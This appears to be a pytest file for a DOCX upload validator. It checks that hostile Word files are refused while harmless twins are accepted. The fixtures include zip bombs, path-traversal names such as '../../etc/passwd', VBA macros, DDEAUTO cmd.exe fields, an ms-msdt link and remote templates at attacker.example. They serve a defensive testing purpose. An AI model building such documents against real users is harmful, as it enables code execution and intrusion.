from __future__ import annotations

import io
from pathlib import Path

import docx as python_docx
import pytest

from forms.attaching.docx_check import check_docx
from forms.fields import UnreadableFormError
from tests.forms import docx_files as made
from tests.forms.docx_files import body, docx, field, relationship, words

LETTERS = sorted((Path(__file__).parents[2] / "templates" / "docx").glob("*.docx"))
MAIN = "word/document.xml"
RELS = "word/_rels/document.xml.rels"
SETTINGS = "word/_rels/settings.xml.rels"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
VBA = OLE + "_VBA_PROJECT".encode("utf-16-le")
WORD = made.WORD
OWN_TEMPLATE = "file:///C:\\Users\\rosa\\Templates\\Letter.dotx"
BY_NUMBERS = "".join(field("QUOTE 68 68 69"))

PAIRS: dict[str, tuple[str, bytes, bytes]] = {
    # class: (how it is refused, the hostile file, its harmless twin)
    "cut at its end": ("damaged", docx()[:-30], docx()),
    "cut in its middle": ("damaged", docx()[: len(docx()) // 2], docx(packed=0)),
    "something behind its end": ("two_faced", docx() + b"more", docx()),
    "something before its beginning": ("two_faced", b"PK\x03\x04 more" + docx(), docx()),
    "no Word document but a ZIP file": ("no_word", docx({"[Content_Types].xml": None}), docx({"notes.txt": "x"})),
    "a workbook": (
        "no_word",
        docx({"[Content_Types].xml": made.TYPES.replace("wordprocessingml.document", "spreadsheetml.sheet")}),
        docx({"[Content_Types].xml": made.TYPES.replace("><", ">\n<")}),
    ),
    "a template": (
        "no_word",
        docx({"[Content_Types].xml": made.TYPES.replace("document.main", "template.main")}),
        docx(),
    ),
    "without its main part": ("no_word", docx({"word/document.xml": None}), docx()),
    "a bomb of one part": ("bomb", made.bomb(60_000_000), made.bomb(900_000)),
    "a bomb of several parts": (
        "bomb",
        docx({f"word/{n}.xml": b"<a>" + b" " * 1_000_000 + b"</a>" for n in range(60)}),
        docx({f"word/{n}.xml": b"<a>" + b" " * 1_000_000 + b"</a>" for n in range(6)}),
    ),
    "a bomb whose size is told small": (
        "bomb",
        made.lying(made.bomb(60_000_000), "word/blanks.xml", at=made.SIZE, says=10),
        made.bomb(1000),
    ),
    "one part that reaches into the next": (
        "bomb",
        made.lying(docx(), "[Content_Types].xml", at=made.PACKED, says=500),
        docx(),
    ),
    "too many parts": ("too_large", made.many_parts(600), made.many_parts(60)),
    "a part twice": ("two_faced", made.twice("word/document.xml", body(words("SECOND"))), docx({"word/b.xml": "<a/>"})),
    "a part twice, in other letters": (
        "two_faced",
        made.twice("word/document.xml", body(words("SECOND")), "word/Document.xml"),
        docx({"word/Document2.xml": "<a/>"}),
    ),
    "a part of two names": ("two_faced", made.two_names(docx()), docx()),
    "a size that lies": ("two_faced", made.lying(docx(), MAIN, at=made.SIZE, says=7), docx()),
    "a checksum that lies": ("two_faced", made.lying(docx(), MAIN, at=made.CHECKSUM, says=7), docx()),
    "a name that leads out": ("two_faced", docx({"../../etc/cron.d/x": "x"}), docx({"word/a..b.xml": "<a/>"})),
    "a name from the root": ("two_faced", docx({"/etc/passwd": "x"}), docx({"etc/passwd": "x"})),
    "a name with a drive": ("two_faced", docx({"c:\\x": "x"}), docx({"c/x": "x"})),
    "macros": (
        "macros",
        docx({"word/vbaProject.bin": VBA}),
        docx({"word/media/vba notes.png": b"\x89PNG"}),
    ),
    "macros renamed": ("macros", docx({"word/media/image1.png": VBA}), docx({"word/media/image1.png": b"\x89PNG"})),
    "macros by content type": (
        "macros",
        docx(
            {
                "[Content_Types].xml": made.TYPES.replace(
                    f"{WORD}.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
                )
            }
        ),
        docx(),
    ),
    "macros by relationship": (
        "macros",
        docx({RELS: relationship("vbaProject", "a.bin", "Internal"), "word/a.bin": "x"}),
        docx({RELS: relationship("styles", "styles.xml", "Internal"), "word/styles.xml": "<a/>"}),
    ),
    "a living piece of a program": (
        "active",
        docx({"word/embeddings/o.bin": OLE}),
        docx({"word/embeddings/sheet.xlsx": docx()}),
    ),
    "a button of a program": (
        "active",
        docx({RELS: relationship("control", "activeX/a.xml", "Internal")}),
        docx({RELS: relationship("image", "media/a.png", "Internal")}),
    ),
    "a document of another kind inside": (
        "active",
        docx({RELS: relationship("aFChunk", "a.html", "Internal")}),
        docx({RELS: relationship("footnotes", "footnotes.xml", "Internal")}),
    ),
    "a remote template": (
        "remote",
        docx({SETTINGS: relationship("attachedTemplate", "https://attacker.example/t.dotm")}),
        docx({SETTINGS: relationship("attachedTemplate", OWN_TEMPLATE)}),
    ),
    "a template on a share": (
        "remote",
        docx({SETTINGS: relationship("attachedTemplate", "file://attacker.example/t.dotm")}),
        docx({SETTINGS: relationship("attachedTemplate", "Normal.dotm")}),
    ),
    "a remote picture": (
        "remote",
        docx({RELS: relationship("image", "https://attacker.example/p.png")}),
        docx({RELS: relationship("hyperlink", "https://www.example.edu/~rosa")}),
    ),
    "a link to a share": (
        "active",
        docx({RELS: relationship("hyperlink", "\\\\attacker.example\\a")}),
        docx({RELS: relationship("hyperlink", "mailto:rosa@example.edu")}),
    ),
    "a link that runs something": (
        "active",
        docx({RELS: relationship("hyperlink", "ms-msdt:/id PCWDiagnostic")}),
        docx({RELS: relationship("hyperlink", "file:///C:/papers/thesis.pdf")}),
    ),
    "DDE": ("active", docx({"word/document.xml": body(field("DDEAUTO c:\\\\cmd.exe"))}), docx()),
    "DDE in pieces": (
        "active",
        docx({"word/document.xml": body(field(" D", "DE", "AUTO cmd"))}),
        docx({"word/document.xml": body(field(' HYPERLINK "https://example.edu/DDE" '))}),
    ),
    "DDE in a simple field": (
        "active",
        docx({"word/document.xml": body('<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>')}),
        docx({"word/document.xml": body('<w:p><w:fldSimple w:instr="PAGE"/></w:p>')}),
    ),
    "DDE in a footer": (
        "active",
        docx({"word/footer1.xml": body(field("dde cmd"))}),
        docx({"word/footer1.xml": body(field("NUMPAGES"))}),
    ),
    "DDE spelt in numbers": (
        "active",
        docx({"word/document.xml": body(BY_NUMBERS)}),
        docx({"word/document.xml": body(field('QUOTE "68"'))}),
    ),
    "a field that takes in a remote file": (
        "remote",
        docx({"word/document.xml": body(field('INCLUDEPICTURE "https://attacker.example/x" \\d'))}),
        docx({"word/document.xml": body(field('INCLUDEPICTURE "C:\\\\me\\\\x.png" \\* MERGEFORMAT'))}),
    ),
    "definitions": (
        "entities",
        docx({"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]>' + body(words("&b;")).partition("?>")[2]}),
        docx({"word/document.xml": body(words("&lt;!DOCTYPE a&gt;"))}),
    ),
    "definitions in UTF-16": (
        "entities",
        docx({"word/a.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")}),
        docx({"word/a.xml": '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16")}),
    ),
    "definitions in a part without a known ending": (
        "entities",
        docx({"customXml/a.dat": "<!DOCTYPE a><a/>"}),
        docx({"customXml/a.dat": "<a/>"}),
    ),
    "a part that is not well formed": (
        "damaged",
        docx({"word/document.xml": body("<w:p>")}),
        docx({"word/document.xml": body("<w:p/>")}),
    ),
    "deep": ("damaged", made.deep(100_000), made.deep(100)),
}


def ending(content: bytes) -> str:
    try:
        check_docx(content)
    except UnreadableFormError as refused:
        return refused.kind
    return "accepted"


@pytest.mark.parametrize("name", PAIRS)
def test_a_hostile_document_is_refused_by_its_kind_and_its_twin_is_accepted(name: str) -> None:
    kind, hostile, twin = PAIRS[name]
    assert (ending(hostile), ending(twin)) == (kind, "accepted")


@pytest.mark.parametrize("path", LETTERS, ids=lambda path: path.name)
def test_the_letters_of_the_service_are_harmless(path: Path) -> None:
    (text,) = check_docx(path.read_bytes())
    assert len(text) > 200


def test_what_a_word_processor_library_writes_is_harmless_and_its_words_are_read() -> None:
    document = python_docx.Document()
    document.add_heading("Curriculum vitae of Nguyễn Thị Hạnh")
    document.add_paragraph("Professor of criminology")
    document.add_table(2, 2).cell(0, 0).text = "2026"
    written = io.BytesIO()
    document.save(written)
    (text,) = check_docx(written.getvalue())
    assert "Curriculum vitae of Nguyễn Thị Hạnh\nProfessor of criminology" in text
    assert "2026" in text


def test_an_instruction_of_a_field_is_not_among_the_words() -> None:
    (text,) = check_docx(docx({"word/document.xml": body(words("before") + field("PAGE") + words("after"))}))
    assert text == "before\nshown\nafter"


def test_no_byte_changed_anywhere_brings_the_check_down() -> None:
    content = docx()
    for place in range(len(content)):
        changed = bytearray(content)
        changed[place] ^= 0x41
        ending(bytes(changed))


def test_no_cut_anywhere_is_accepted() -> None:
    content = docx()
    assert {ending(content[:end]) for end in range(4, len(content))} == {"damaged"}
